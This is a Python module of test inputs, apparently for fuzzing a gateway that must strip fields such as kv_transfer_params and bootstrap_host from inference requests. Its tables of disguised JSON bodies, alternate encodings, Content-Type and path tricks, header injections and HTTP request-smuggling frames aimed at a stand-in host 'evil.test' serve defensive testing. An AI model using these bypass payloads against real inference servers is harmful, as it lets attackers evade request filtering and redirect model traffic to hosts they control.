"""How a client may disguise a request that names a host, an engine or a room: the values of each axis."""

from __future__ import annotations

import gzip
import itertools
import json
import zlib
from collections.abc import Callable

EVIL = {
    "kv_transfer_params": {
        "do_remote_prefill": True,
        "remote_bootstrap_addr": "http://evil.test:666",
        "remote_engine_id": "evil-engine",
        "remote_host": "evil.test",
        "transfer_id": "xfer-evil",
    },
    "bootstrap_host": "evil.test",
    "bootstrap_port": 666,
    "bootstrap_room": 6660666,
    "bootstrap_pair_key": "evil",
}
PLAIN = {"prompt": "x", "text": "x", "token_ids": [1], "sampling_params": {}, "instances": [{"text": "x"}]}
NUL, MARK = "\\u0000", "\ufeff"


def written(*parts: dict | str) -> str:
    """One JSON object of several parts, so that a name can come twice."""
    return "{" + ",".join(p if isinstance(p, str) else json.dumps(p)[1:-1] for p in parts) + "}"


def spelled(change: Callable[[str], str]) -> str:
    return ",".join(f'"{change(name)}":{json.dumps(value)}' for name, value in EVIL.items())


def escaped(upper: bool, every: int = 1) -> Callable[[str], str]:
    def change(name: str) -> str:
        return "".join(c if i % every else f"\\u{ord(c):04{'X' if upper else 'x'}}" for i, c in enumerate(name))

    return change


def nested(depth: int, inner: str, opening: str = '{"a":', closing: str = "}") -> str:
    return opening * depth + inner + closing * depth


evil = spelled(str)
lists = {name: [value] for name, value in EVIL.items()} | {"prompt": ["x"], "text": ["x"]}

# What stands in the body, as text.
TEXTS: dict[str, str] = {
    "plain": written(PLAIN, EVIL),
    "first": written(EVIL, PLAIN),
    "alone": written(EVIL),
    "lists": written(lists),
    "a batch": written(lists | {"prompt": ["x", "y"], "text": ["x", "y"], "bootstrap_room": [6660666, 6660667]}),
    "twice": written(PLAIN, EVIL, EVIL),
    "empty, then evil": written(dict.fromkeys(EVIL), PLAIN, EVIL),
    "evil, then empty": written(EVIL, PLAIN, dict.fromkeys(EVIL)),
    "escaped": written(PLAIN, spelled(escaped(False))),
    "ESCAPED": written(PLAIN, spelled(escaped(True))),
    "escaped in part": written(PLAIN, spelled(escaped(False, 3))),
    "twice, escaped differently": written(PLAIN, EVIL, spelled(escaped(False)), spelled(escaped(True, 2))),
    "escaped, then empty": written(spelled(escaped(False)), PLAIN, dict.fromkeys(EVIL)),
    "capitals": written(PLAIN, spelled(str.upper)),
    "dashes": written(PLAIN, spelled(lambda n: n.replace("_", "-"))),
    "wide letters": written(PLAIN, spelled(lambda n: "".join(chr(ord(c) + 0xFEE0) for c in n))),
    "NUL behind the name": written(PLAIN, spelled(lambda n: n + NUL)),
    "space behind the name": written(PLAIN, spelled(lambda n: n + " ")),
    "mark before the name": written(PLAIN, spelled(lambda n: MARK + n)),
    "half a pair in the name": written(PLAIN, spelled(lambda n: n + "\\ud800"), EVIL),
    "half a pair before": written(PLAIN, '"\\udc00":"\\ud800\\ud800"', EVIL),
    "vllm_xargs": written(PLAIN, {"vllm_xargs": EVIL}),
    "vllm_xargs of texts": written(PLAIN, {"vllm_xargs": {n: "evil" for n in EVIL}}),
    "vllm_xargs, escaped": written(PLAIN, '"vllm_xargs":{"\\u006bv_transfer_params":["evil"]}'),
    "extra_args": written(PLAIN | {"sampling_params": {"extra_args": EVIL}}),
    "extra_body": written(PLAIN, {"extra_body": EVIL}),
    "parameters": written(PLAIN, {"parameters": EVIL}),
    "instances": written({"instances": [EVIL]}),
    "embedded": written({"body": PLAIN | EVIL}),
    "an array": json.dumps([PLAIN | EVIL]),
    "text of JSON": json.dumps(json.dumps(PLAIN | EVIL)),
    "text of JSON inside": written(PLAIN, {n: json.dumps(v) for n, v in EVIL.items()}),
    "nested 30": nested(30, written(EVIL)),
    "nested 900": nested(900, written(EVIL)),
    "nested 9000": nested(9000, written(EVIL)),
    "nested 20000": nested(20000, written(EVIL)),
    "arrays 900, then evil": written('"a":' + nested(900, "1", "[", "]"), PLAIN, EVIL),
    "a quoted object": written({"prompt": '{"kv_transfer_params":1}', "text": "x"}, EVIL),
    "quotes, escaped": written({"prompt": '\\"\\\\"', "text": "x"}, EVIL),
    "NaN": written('"x":NaN', PLAIN, EVIL),
    "-Infinity": written(PLAIN, EVIL, '"x":-Infinity'),
    "1e999": written('"x":1e999,"y":-1E-999', PLAIN, EVIL),
    "a number of 4000 digits": written('"x":' + "9" * 4000, PLAIN, EVIL),
    "a number of 5000 digits": written('"x":' + "9" * 5000, PLAIN, EVIL),
    "a fraction of 9000 digits": written('"x":0.' + "3" * 9000, PLAIN, EVIL),
    "a port in exponents": written(PLAIN, '"bootstrap_port":6.66e2,"bootstrap_room":666e4,"bootstrap_host":"evil.test"'),
    "numbers as texts": written(PLAIN, '"bootstrap_port":"666","bootstrap_room":"6660666"'),
    "zeros before": written('"x":007', PLAIN, EVIL),
    "plus": written('"x":+1', PLAIN, EVIL),
    "a comma behind": written(PLAIN, EVIL)[:-1] + ",}",
    "a comment": "/* */" + written(PLAIN, EVIL),
    "a comment within": written(PLAIN, "/* */" + evil),
    "single quotes": written(PLAIN, EVIL).replace('"', "'"),
    "a newline in a text": written('"x":"\n"', PLAIN, EVIL),
    "a tab in a name": written('"\t":1', PLAIN, EVIL),
    "\\x41": written('"x":"\\x41"', PLAIN, EVIL),
    "\\u 06b": written(PLAIN, '"\\u 06bv_transfer_params":{"a":1}'),
    "\\u00_6b": written(PLAIN, '"\\u0_6bv_transfer_params":{"a":1}'),
    "space before": " \t\r\n" * 50 + written(PLAIN, EVIL),
    "much space before": " " * 9000 + written(PLAIN, EVIL),
    "a form feed before": "\f" + written(PLAIN, EVIL),
    "a hard space before": "\u00a0" + written(PLAIN, EVIL),
    "space within": written(PLAIN, EVIL).replace(":", " \t:\r\n"),
    "NUL before": "\0" + written(PLAIN, EVIL),
    "NUL behind": written(PLAIN, EVIL) + "\0",
    "something behind": written(PLAIN, EVIL) + "x",
    "two documents": written(PLAIN) + "\n" + written(PLAIN, EVIL),
    "without its end": written(PLAIN, EVIL)[:-1],
    "a line and a document": "\x1e" + written(PLAIN, EVIL),
    "a form": "prompt=x&bootstrap_host=evil.test&kv_transfer_params=%7B%22a%22%3A1%7D",
    "a form with JSON": "=" + written(PLAIN, EVIL),
    "parts": '--b\r\nContent-Disposition: form-data; name="body"\r\nContent-Type: application/json\r\n\r\n'
    + written(PLAIN, EVIL)
    + "\r\n--b--\r\n",
    "JSON before parts": written(PLAIN, EVIL) + "\r\n--b--\r\n",
    "nothing": "",
    "harmless": written(PLAIN),
}


def utf7(text: str) -> bytes:
    return text.replace("{", "+AHs-").replace("}", "+AH0-").encode()


# How the text becomes bytes. Python's json decodes some that Go's does not.
CODES: dict[str, Callable[[str], bytes]] = {
    "utf-8": lambda t: t.encode("utf-8", "surrogatepass"),
    "utf-8 with a mark": lambda t: t.encode("utf-8-sig"),
    **{
        f"{code}{' with a mark' if mark else ''}": (lambda t, c=code, m=mark: (m + t).encode(c))
        for code in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be")
        for mark in ("", MARK)
    },
    "two marks": lambda t: (MARK * 2 + t).encode(),
    "a byte that is no UTF-8": lambda t: t.encode().replace(b'"x"', b'"\xff\xc3"'),
    "half a pair as bytes": lambda t: t.encode().replace(b'"x"', b'"\xed\xa0\x80"'),
    "a name with half a pair": lambda t: t.encode().replace(b"{", b'{"\xed\xa0\x80":1,', 1),
    "overlong quotes": lambda t: t.encode().replace(b'"kv', b"\xc0\xa2kv"),
    "utf-7": utf7,
    "latin-1": lambda t: t.encode("latin-1", "replace"),
    "utf-16 of one half": lambda t: t[:1].encode("utf-16-le") + t[1:].encode(),
    "gzip": lambda t: gzip.compress(t.encode(), mtime=0),
    "deflate": lambda t: zlib.compress(t.encode()),
}

# The values of Content-Type; two are two lines.
KINDS: dict[str, tuple[str, ...]] = {
    kind if isinstance(kind, str) else " and ".join(kind): (kind,) if isinstance(kind, str) else kind
    for kind in (
        "application/json",
        (),
        "",
        " ",
        "application/json; charset=utf-8",
        "application/json;charset=utf-16",
        "application/json; charset=utf-7",
        "application/json ; boundary=b",
        "APPLICATION/JSON",
        "application/vnd.x+json",
        "application/X+JSON;a=b",
        "application/+json",
        "application/json, text/plain",
        "application/json/x",
        "application/ json",
        "application/jsonl",
        "text/json",
        "text/plain",
        "text/plain; charset=utf-16",
        "*/*",
        "json",
        ";",
        "; application/json",
        "application/x-www-form-urlencoded",
        "application/x-ndjson",
        "application/msgpack",
        "multipart/form-data; boundary=b",
        "multipart/form-data",
        "multipart/",
        "MULTIPART/MIXED;boundary=b",
        "multipart/json",
        "multipart/x+json",
        "multipart/form-data, application/json",
        "multipart/;application/json",
        "multipart/x/application/json",
        "application/octet-stream",
        "application/octet-stream; charset=utf-8",
        "Application/Octet-Stream",
        "application/octet-stream+json",
        "image/png",
        "applic\u00e4tion/json",
        "=?utf-8?q?application/json?=",
        ("application/json", "text/plain"),
        ("text/plain", "application/json"),
        ("multipart/form-data; boundary=b", "application/json"),
        ("application/json", "multipart/form-data; boundary=b"),
        ("application/octet-stream", "application/json"),
        ("", "application/json"),
    )
}

COMPLETIONS = ("/v1/completions", "/v1/chat/completions", "/generate")
OTHERS = ("/invocations", "/v1/responses", "/v1/messages", "/inference/v1/generate", "/vertex_generate", "/embedded", "/api/generate")
QUERY = "?kv_transfer_params=%7B%22a%22%3A1%7D&bootstrap_host=evil.test&bootstrap_port=666&bootstrap_room=6660666"

# What may be done to a path.
TARGETS: dict[str, Callable[[str], str]] = {
    "as it is": lambda p: p,
    "a query": lambda p: p + QUERY,
    "an empty query": lambda p: p + "?",
    "a slash behind": lambda p: p + "/",
    "two slashes": lambda p: "/" + p,
    "dots": lambda p: "/x/.." + p,
    "a dot": lambda p: "/." + p,
    "an escaped slash": lambda p: p[0] + p[1:].replace("/", "%2F"),
    "an escaped letter": lambda p: p[:-1] + f"%{ord(p[-1]):02X}",
    "escaped twice": lambda p: p[:-1] + f"%25{ord(p[-1]):02X}",
    "escaped dots": lambda p: "/x/%2e%2e" + p,
    "capitals": lambda p: p.upper(),
    "a semicolon": lambda p: p + ";x=y",
    "a NUL": lambda p: p + "%00",
    "a newline": lambda p: p + "%0a",
    "a backslash": lambda p: p + "\\",
    "with a host": lambda p: "http://evil.test" + p,
    "a fragment": lambda p: p + "#x",
    "a letter that is no UTF-8": lambda p: p + "%ff",
}

METHODS = {m: m for m in ("POST", "PUT", "GET", "PATCH", "DELETE", "post")}

OVERRIDES = (
    ("X-Override-Bootstrap-Host", "evil.test"),
    ("x-override-bootstrap-port", "666"),
    ("X-OVERRIDE-BOOTSTRAP-ROOM", "6660666"),
    ("x-Override-Rid", "evil"),
    ("X-Override-Disagg-Prefill-Dp-Rank", "66"),
)

# Lines of the header beside those of the body.
HEADERS: dict[str, tuple[tuple[str, str], ...]] = {
    "none": (),
    "overrides": OVERRIDES,
    "overrides twice": OVERRIDES + OVERRIDES,
    "overrides that hop": (*OVERRIDES, ("Connection", "X-Override-Bootstrap-Host, keep-alive")),
    "overrides with _": tuple((n.replace("-", "_"), v) for n, v in OVERRIDES),
    "an override alone": OVERRIDES[:1],
    "an empty override": (("X-Override-Bootstrap-Host", ""), ("X-Override-Bootstrap-Host", "evil.test")),
    "a rank": (("X-Data-Parallel-Rank", "66"),),
    "a rank that hops": (("X-data-parallel-rank", "66"), ("Connection", "x")),
    **{
        f"Connection: {value}": (("Connection", value),)
        for value in (
            "Content-Type",
            "close, content-type",
            "CONTENT-TYPE ,x",
            "content-length",
            "Content-Encoding, Content-Type, Content-Length",
            "Transfer-Encoding",
            "Authorization, Host",
            "Upgrade",
            "keep-alive",
        )
    },
    "two Connections": (("Connection", "x"), ("Connection", "Content-Type")),
    "Proxy-Connection": (("Proxy-Connection", "Content-Type"), ("Keep-Alive", "Content-Type")),
    "Upgrade": (("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Key", "eA=="), ("Sec-WebSocket-Version", "13")),
    "Upgrade to h2c": (("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")),
    "gzip": (("Content-Encoding", "gzip"),),
    "deflate": (("Content-Encoding", "deflate"),),
    **{f"X-Body-Compressed: {way}": (("X-Body-Compressed", way),) for way in ("gzip", "deflate", "zstd", "identity", "")},
    "X-Body-Compressed that hops": (("X-Body-Compressed", "gzip"), ("Connection", "X-Body-Compressed")),
    "X-Body-Compressed with _": (("X_Body_Compressed", "gzip"),),
    "identity and gzip": (("Content-Encoding", "identity"), ("Content-Encoding", "gzip")),
    "method override": (("X-HTTP-Method-Override", "PUT"), ("X-Original-URL", "/v1/responses"), ("X-Rewrite-URL", "/v1/responses")),
    "forwarded": (("X-Forwarded-Host", "evil.test"), ("X-Forwarded-Prefix", "/v1"), ("Forwarded", "host=evil.test")),
    "a folded type": (("X", "y\r\n Content-Type: application/json"),),
    "a type behind a bare return": (("X", "y\rContent-Type: application/json"),),
    "a type behind a newline": (("X", "y\nX-Override-Bootstrap-Host: evil.test"),),
    "a space in a name": (("X-Override-Bootstrap-Host ", "evil.test"),),
    "a type with a space": (("Content-Type ", "application/json"),),
    "expect": (("Expect", "100-continue"),),
}


def chunked(body: bytes, sizes: tuple[int, ...], extension: str = "", trailer: str = "") -> bytes:
    out, at = b"", 0
    for size in itertools.chain(sizes, itertools.repeat(1 << 16)):
        piece = body[at : at + size]
        if not piece:
            break
        out += f"{len(piece):x}{extension}\r\n".encode() + piece + b"\r\n"
        at += len(piece)
    return out + f"0\r\n{trailer}\r\n".encode()


SMUGGLED = (
    f"POST /v1/responses HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: {len(TEXTS['plain'])}\r\n\r\n"
    + TEXTS["plain"]
)
CHUNKS = "Transfer-Encoding: chunked\r\n"


def length(body: bytes) -> str:
    return f"Content-Length: {len(body)}\r\n"


# How the body is framed: further lines of the header, then bytes.
FRAMES: dict[str, Callable[[bytes], tuple[str, bytes]]] = {
    "length": lambda b: (length(b), b),
    "length twice": lambda b: (length(b) * 2, b),
    "chunks": lambda b: (CHUNKS, chunked(b, (1, 2, 3))),
    "chunks with extensions": lambda b: (CHUNKS, chunked(b, (5,), ';a="\\""')),
    "chunks with trailers": lambda b: (
        CHUNKS + "Trailer: X-Override-Bootstrap-Host, Content-Type\r\n",
        chunked(b, (), "", "X-Override-Bootstrap-Host: evil.test\r\nContent-Type: application/json\r\n"),
    ),
    "chunks and a length": lambda b: (CHUNKS + length(b), chunked(b, ())),
    "a length of nothing and chunks": lambda b: ("Content-Length: 0\r\n" + CHUNKS, chunked(b, ())),
    "chunks in capitals": lambda b: ("Transfer-Encoding: CHUNKED\r\n", chunked(b, ())),
    "chunks, and identity": lambda b: ("Transfer-Encoding: identity\r\n" + CHUNKS, chunked(b, ())),
    "chunks with a tab": lambda b: ("Transfer-Encoding:\tchunked\r\n", chunked(b, ())),
    "a request behind": lambda b: (length(b), b + SMUGGLED.encode()),
    "a request behind chunks": lambda b: (CHUNKS, chunked(b, ()) + SMUGGLED.encode()),
    "a length that is too short": lambda b: (f"Content-Length: {max(len(b) - 3, 0)}\r\n", b + SMUGGLED.encode()),
    "no length": lambda b: ("", b),
    "a plus in the length": lambda b: (f"Content-Length: +{len(b)}\r\n", b),
}

AXES: dict[str, dict] = {
    "text": TEXTS,
    "code": CODES,
    "kind": KINDS,
    "target": TARGETS,
    "method": METHODS,
    "header": HEADERS,
    "frame": FRAMES,
}
